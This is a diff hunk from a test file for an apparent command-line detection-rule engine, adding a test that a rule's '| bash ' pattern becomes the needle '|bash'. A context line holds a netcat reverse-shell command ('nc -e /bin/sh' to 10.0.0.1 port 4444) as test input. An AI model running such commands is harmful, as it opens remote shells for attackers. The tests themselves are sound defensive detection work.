@@ -542,3 +542,8 @@ def test_requires_hold_whatever_the_white_space(tmp_path):
         condition: sel
     """)
     assert fires(rule, action("nc\t-e /bin/sh 10.0.0.1 4444"))
+
+
+def test_a_pipe_in_a_value_keeps_its_needle_whole(tmp_path):
+    rule = one(tmp_path, "sel:\n    CommandLine|contains: '| bash '\ncondition: sel")
+    assert rule.needles == {"|bash"}  # the searched text has no space around a pipe either
